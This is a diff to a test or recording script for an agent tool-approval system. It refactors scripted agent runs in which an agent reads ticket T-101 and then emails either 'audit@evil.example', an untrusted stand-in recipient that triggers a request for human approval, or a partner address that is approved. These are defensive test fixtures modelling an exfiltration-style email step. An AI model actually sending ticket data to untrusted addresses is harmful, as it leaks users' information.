@@ -42,6 +42,21 @@ interface Recording {
   during?: (client: Client, workflowId: string) => Promise<void>;
 }
 
+/** An agent that reads ticket T-101, then mails `to`: an address no trusted source produced, so a person is asked. */
+function mailAfterTicket(to: string): Recording['agent'] {
+  return {
+    prompt: 'Handle ticket T-101.',
+    model: {
+      endpoint: 'scripted',
+      script: [
+        { tool_calls: [{ name: 'tickets__read_ticket', arguments: { ticket_id: 'T-101' } }] },
+        { tool_calls: [{ name: 'mail__send_email', arguments: { to, subject: 'x', body: 'y' } }] },
+        { final: 'done' },
+      ],
+    },
+  };
+}
+
 async function main(): Promise<void> {
   Runtime.install({ logger: new DefaultLogger('WARN') });
   const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'toolplane-record-'));
@@ -146,21 +161,7 @@ async function main(): Promise<void> {
       name: 'agent-approval',
       manifest: askable,
       askable: true,
-      agent: {
-        prompt: 'Handle ticket T-101.',
-        model: {
-          endpoint: 'scripted',
-          script: [
-            { tool_calls: [{ name: 'tickets__read_ticket', arguments: { ticket_id: 'T-101' } }] },
-            {
-              tool_calls: [
-                { name: 'mail__send_email', arguments: { to: 'audit@evil.example', subject: 'x', body: 'y' } },
-              ],
-            },
-            { final: 'done' },
-          ],
-        },
-      },
+      agent: mailAfterTicket('audit@evil.example'),
       during: async (c, workflowId) => {
         const handle = c.workflow.getHandle(workflowId);
         await handle.executeUpdate(resolveEscalation, {
@@ -173,21 +174,7 @@ async function main(): Promise<void> {
       name: 'agent-approved',
       manifest: askable,
       askable: true,
-      agent: {
-        prompt: 'Handle ticket T-101.',
-        model: {
-          endpoint: 'scripted',
-          script: [
-            { tool_calls: [{ name: 'tickets__read_ticket', arguments: { ticket_id: 'T-101' } }] },
-            {
-              tool_calls: [
-                { name: 'mail__send_email', arguments: { to: 'auditor@partner.example', subject: 'x', body: 'y' } },
-              ],
-            },
-            { final: 'done' },
-          ],
-        },
-      },
+      agent: mailAfterTicket('auditor@partner.example'),
       during: async (c, workflowId) => {
         const handle = c.workflow.getHandle(workflowId);
         const { effectKey } = await waitForPending(handle);
